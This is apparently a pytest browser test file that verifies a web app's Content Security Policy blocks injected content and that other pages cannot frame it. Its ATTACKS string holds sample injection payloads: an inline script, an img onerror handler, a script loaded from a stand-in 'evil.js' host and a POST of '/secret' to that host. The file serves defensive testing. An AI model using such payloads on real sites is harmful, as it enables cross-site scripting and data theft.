"""What the browser itself keeps out of the page."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

ATTACKS = """
async (elsewhere) => {
  const refused = new Set()
  document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective))
  const script = document.createElement('script')
  script.textContent = 'window.stolen = 1'
  document.body.append(script)
  const foreign = document.createElement('script')
  foreign.src = elsewhere + '/evil.js'
  document.body.append(foreign)
  const holder = document.createElement('div')
  holder.innerHTML = '<img src=x onerror="window.stolen = 2"><p style="color: red">red</p>'
  document.body.append(holder)
  const picture = document.createElement('img')
  picture.src = elsewhere + '/pixel.png'
  document.body.append(picture)
  const frame = document.createElement('iframe')
  frame.src = elsewhere
  document.body.append(frame)
  const base = document.createElement('base')
  base.href = elsewhere
  document.head.append(base)
  try { new WebSocket(elsewhere.replace('http', 'ws') + '/ws') } catch { /* refused at once */ }
  await fetch(elsewhere + '/secret', {method: 'POST', mode: 'no-cors'}).catch(() => null)
  const form = document.createElement('form')
  form.action = elsewhere
  form.method = 'post'
  document.body.append(form)
  form.submit()
  const end = Date.now() + 20000
  while (refused.size < 8 && Date.now() < end) await new Promise((done) => setTimeout(done, 50))
  return {refused: [...refused].sort(), stolen: window.stolen ?? null, base: document.baseURI}
}
"""


def test_what_is_smuggled_into_the_page_can_do_nothing(browser, address):
    context = browser.new_context()
    page = context.new_page()
    page.goto(address)
    page.get_by_test_id("lobby").wait_for()
    found = page.evaluate(ATTACKS, "http://elsewhere.example:81")
    context.close()
    assert found["stolen"] is None
    assert found["base"].startswith(address)
    assert set(found["refused"]) >= {
        "script-src-elem",
        "script-src-attr",
        "style-src-attr",
        "img-src",
        "frame-src",
        "base-uri",
        "connect-src",
        "form-action",
    }


@pytest.fixture
def elsewhere(address) -> Iterator[str]:
    """A page of somebody else, with ours in a frame."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(f'<iframe src="{address}"></iframe>'.encode())

        def log_message(self, *said: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}/"
        server.shutdown()
        thread.join()


def test_no_other_page_can_show_it_in_a_frame(browser, address, elsewhere):
    context = browser.new_context()
    page = context.new_page()
    with page.expect_event("requestfailed", lambda request: request.url == address) as refused:
        page.goto(elsewhere)
    assert refused.value.failure == "net::ERR_BLOCKED_BY_RESPONSE"
    context.close()
